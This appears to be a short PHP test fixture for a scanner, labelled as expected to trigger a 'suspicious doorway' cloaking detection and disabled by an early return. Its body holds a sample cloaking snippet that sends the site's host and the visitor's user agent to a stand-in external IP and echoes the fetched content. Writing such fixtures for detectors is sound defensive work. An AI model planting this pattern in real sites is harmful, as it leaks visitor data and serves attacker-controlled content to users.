<?php return; // want: suspicious doorway php.output.cloak
$u = 'http://203.0.113.9/x.php?h=' . $_SERVER['HTTP_HOST'] . '&a=' . urlencode($_SERVER['HTTP_USER_AGENT']);
echo file_get_contents($u);
